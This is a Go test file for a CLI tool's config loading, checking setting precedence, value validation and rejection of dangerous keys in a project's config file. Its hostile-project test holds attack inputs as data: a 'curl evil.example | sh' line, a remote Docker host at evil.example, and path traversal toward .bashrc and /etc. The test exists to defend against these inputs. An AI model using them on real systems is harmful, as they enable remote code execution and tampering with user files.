package cli

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/contextcore/ccdestroy/internal/lab/need"
)

// The machine's own file has no part in tests.
func init() { machineSettings = "/nonexistent/ccdestroy/config.yaml" }

// places are the files of settings of one test.
type places struct{ dir, user, machine, project string }

// settingsIn makes room for files of settings, none of which is there. The
// program runs in a directory two below the project's.
func settingsIn(t *testing.T, dir string) places {
	t.Helper()
	deep, etc := filepath.Join(dir, "deep", "down"), t.TempDir()
	f := places{deep, filepath.Join(deep, "config", "ccdestroy", "config.yaml"), filepath.Join(etc, "config.yaml"), filepath.Join(dir, settingsName)}
	if err := os.MkdirAll(filepath.Dir(f.user), 0o755); err != nil {
		t.Fatal(err)
	}
	before := machineSettings
	machineSettings = f.machine
	t.Cleanup(func() { machineSettings = before })
	return f
}

// config is what the program says of a key: its value and where it is from.
func config(t *testing.T, dir string, env []string, key string) string {
	t.Helper()
	r := call(t, dir, env, "config", "--format", "json")
	var all []struct {
		Key, Value, From string
		Enforced         bool
	}
	if err := json.Unmarshal([]byte(r.stdout), &all); err != nil || r.code != 0 {
		t.Fatalf("exit %d, %v\n%s", r.code, err, r.stderr)
	}
	var text []string
	for _, s := range all {
		if s.Key == key {
			word := s.Value + " " + s.From
			if s.Enforced {
				word += " enforced"
			}
			text = append(text, word)
		}
	}
	return strings.Join(text, "; ")
}

// refused makes sure that a command is refused for what it says, and with advice.
func refused(t *testing.T, r result, says ...string) {
	t.Helper()
	for _, text := range append(says, "\nTry: ") {
		if r.code != 2 || !strings.Contains(r.stderr, text) {
			t.Errorf("exit %d, without %q:\n%s", r.code, text, r.stderr)
		}
	}
}

// The strongest place wins: the command line, a variable, the user's file, the
// machine's, the project's, the default.
func TestSettings(t *testing.T) {
	need.Root(t)
	f := settingsIn(t, project(t))
	first := func(want string, env []string, args ...string) {
		t.Helper()
		r := call(t, f.dir, env, append([]string{"audit"}, args...)...)
		if r.code != 0 || !strings.HasPrefix(r.stdout, want) {
			t.Errorf("exit %d, not %q but %.40q\n%s", r.code, want, r.stdout, r.stderr)
		}
	}
	first("ID ", nil)
	put(t, f.project, "format: json\n")
	first("[\n", nil)
	put(t, f.machine, "format: html\n")
	first("<!DOCTYPE", nil)
	put(t, f.user, "# mine\nformat: csv\n")
	first("id,", nil)
	first("{", []string{"CCDESTROY_FORMAT=jsonl"})
	first("ID ", []string{"CCDESTROY_FORMAT=jsonl"}, "--format", "table")
	for env, want := range map[string]string{"": "csv " + f.user + ":2", "CCDESTROY_FORMAT=jsonl": "jsonl $CCDESTROY_FORMAT"} {
		if got := config(t, f.dir, []string{env}, "format"); got != want {
			t.Errorf("%q, not %q", got, want)
		}
	}
	if got := config(t, f.dir, nil, "prompt-timeout"); got != "10m default" {
		t.Error(got)
	}
	if r := call(t, f.dir, nil, "version"); r.code != 0 { // which has no csv
		t.Error(r.stderr)
	}
	r := call(t, f.dir, []string{"CCDESTROY_LOG=x"}, "config")
	for _, want := range []string{"CCDESTROY_LOG", f.user + "  1 key", f.machine + "  1 key", f.project + "  1 key"} {
		if !strings.Contains(strings.Join(strings.Fields(r.stdout), " "), strings.Join(strings.Fields(want), " ")) {
			t.Errorf("%q is missing:\n%s", want, r.stdout)
		}
	}
}

// Values are lists, words, paths and times; each mistake is told with its place.
func TestSettingsValues(t *testing.T) {
	f := settingsIn(t, project(t))
	ids := func(env ...string) int {
		t.Helper()
		r := call(t, f.dir, append(env, "CCDESTROY_QUIET=true"), "audit")
		if r.code != 0 {
			t.Fatalf("exit %d\n%s", r.code, r.stderr)
		}
		return strings.Count(r.stdout, "\n")
	}
	for text, want := range map[string]int{
		"": 20, "# none\n": 20, "---\n...\n": 20, "limit:\n": 20, "limit: 5\noperation: [destroy, export]\nreverse: yes\n": 5,
		"log: ../../../../.contextcore/audit.jsonl\n": 20, // from the file's own directory
	} {
		put(t, f.user, text)
		if n := ids(); n != want {
			t.Errorf("%q: %d", text, n)
		}
	}
	put(t, f.user, "file: [a.yaml, /b.yaml, \"-\", ~/c.yaml]\n")
	home, err := os.UserHomeDir()
	if err != nil {
		t.Fatal(err)
	}
	if got, want := config(t, f.dir, nil, "file"), filepath.Join(filepath.Dir(f.user), "a.yaml")+",/b.yaml,-,"+home+"/c.yaml "+f.user+":1"; got != want {
		t.Errorf("%q, not %q", got, want)
	}
	if got := config(t, f.dir, []string{"CCDESTROY_OUTCOME=failed,partial"}, "outcome"); got != "failed,partial $CCDESTROY_OUTCOME" {
		t.Error(got)
	}
	for text, says := range map[string]string{
		"limit: 5\nlimti: 6\n":         `config.yaml:2: unknown key "limti"`,
		"limit: 5\nlimit: 6\n":         `config.yaml:2: key "limit" twice`,
		"limit: [1, 2]\n":              "config.yaml:1: expected one value",
		"\nlimit: many\n":              "config.yaml:2: expected",
		"quiet: perhaps\n":             "config.yaml:1: expected true or false",
		"- limit\n":                    "config.yaml:1: KEY: VALUE",
		"limit\n":                      "config.yaml:1: KEY: VALUE",
		"limit: {a: b}\n":              "config.yaml:1: limit:",
		"limit: \"5\n":                 "config.yaml: yaml",
		"limit: 5\n---\nlimit: 6\n":    "more than one document",
		"format: xml\n":                "config.yaml:1: must be one of table, ",
		"help: true\n":                 `unknown key "help"`,
		"operation: [[destroy]]\n":     "config.yaml:1: operation:",
		"enforce: {log: x}\n":          "may stand in " + f.machine,
		"reason: because\n":            "config.yaml:1: reason: required is the one value",
		"limit: &x 5\noperation: *x\n": "config.yaml:2: operation:",
	} {
		put(t, f.user, text)
		refused(t, call(t, f.dir, nil, "audit"), says)
	}
	put(t, f.user, "timeout: soon\n")
	refused(t, call(t, f.dir, nil, "--dry-run"), "config.yaml:1: expected a whole number")
	put(t, f.user, "")
	refused(t, call(t, f.dir, []string{"CCDESTROY_PROMPT_TIMEOUT=soon"}, "--dry-run"), "$CCDESTROY_PROMPT_TIMEOUT: ")
	refused(t, call(t, f.dir, []string{"CCDESTROY_LIMIT=many"}, "audit"), "$CCDESTROY_LIMIT: expected")
}

// What a cloned repository must not be able to do.
func TestSettingsHostileProject(t *testing.T) {
	f := settingsIn(t, project(t))
	bashrc := filepath.Join(filepath.Dir(filepath.Dir(f.project)), ".bashrc")
	for text, key := range map[string]string{
		"format: csv\noutput: ../.bashrc\n":                   "output",
		"reason: required\nlog: ../.bashrc\n":                 "log",
		"color: auto\nyes: true\n":                            "yes",
		"color: auto\nunprotect: [pgdata]\n":                  "unprotect",
		"color: auto\nproject-name: other\n":                  "project-name",
		"color: auto\nhost: tcp://evil.example:2375\n":        "host",
		"color: auto\ncontext: evil\n":                        "context",
		"color: auto\nfile: [/srv/other/compose.yaml]\n":      "file",
		"color: auto\nlock-timeout: 1ns\n":                    "lock-timeout",
		"color: auto\nvolumes: false\n":                       "volumes",
		"color: auto\nlog-group: users\n":                     "log-group",
		"color: auto\nenforce: {log: x}\n":                    "enforce",
		"color: auto\n\"\\u006fog\": x\n":                     "oog",
		"color: auto\n<<: {yes: true}\n":                      "<<",
		"color: auto\nreason: curl evil.example | sh #\n":     "reason",
		"color: auto\nexport: ../exports\n":                   "export",
		"color: auto\nexport: /etc\n":                         "export",
		"color: auto\nexport: a/../../b\n":                    "export",
		"color: auto\nexport: [a, b]\n":                       "export",
		"color: auto\nexport: link/deeper\n":                  "export",
		"color: auto\nexport: dangling\n":                     "export",
		"color: auto\nexport: ~/exports/../../../../../etc\n": "export",
	} {
		t.Run(key, func(t *testing.T) {
			put(t, f.project, text)
			dir := filepath.Dir(f.project)
			for link, target := range map[string]string{"link": "/etc", "dangling": "/nonexistent/x"} {
				if err := os.Symlink(target, filepath.Join(dir, link)); err != nil && !os.IsExist(err) {
					t.Fatal(err)
				}
			}
			for _, args := range [][]string{{"audit"}, {}, {"prune", "--yes"}, {"record", "--operation", "x", "--outcome", "failed"}} {
				r := call(t, f.dir, nil, args...)
				refused(t, r, f.project+":2: ")
				if !strings.Contains(r.stderr, key) {
					t.Errorf("the key is not named:\n%s", r.stderr)
				}
			}
			if _, err := os.Lstat(bashrc); err == nil {
				t.Error("a file was written outside of the project")
			}
		})
	}
	put(t, f.project, "yes: true\n")
	refused(t, call(t, f.dir, nil, "audit"), `:1: a project may not set "yes": it may stand in `+f.user, "Try: remove the line, or move it to "+f.user)
	put(t, f.project, "export: backups/../saved\nprotect: pg*\nreason: required\nprompt-timeout: 2m\ntimeout: 5\nformat: json\ncolor: never\n")
	dir, err := filepath.EvalSymlinks(filepath.Dir(f.project))
	if err != nil {
		t.Fatal(err)
	}
	if got := config(t, f.dir, nil, "export"); got != filepath.Join(dir, "saved")+" "+f.project+":1" {
		t.Error(got)
	}
}

// A setting is tried for a flag that need not have a value, too.
func TestSettingOfOptionalFlag(t *testing.T) {
	f := settingsIn(t, project(t))
	guard := []string{"guard", "--socket", "/dev/null/guard.sock"} // where it cannot serve
	put(t, f.user, "keep-for: 30d\n")
	if r := call(t, f.dir, nil, guard...); r.code != 1 || !strings.Contains(r.stderr, "mkdir /dev/null") {
		t.Errorf("exit %d\n%s", r.code, r.stderr)
	}
	put(t, f.user, "keep-for: long\n")
	refused(t, call(t, f.dir, nil, guard...), f.user+":1")
}
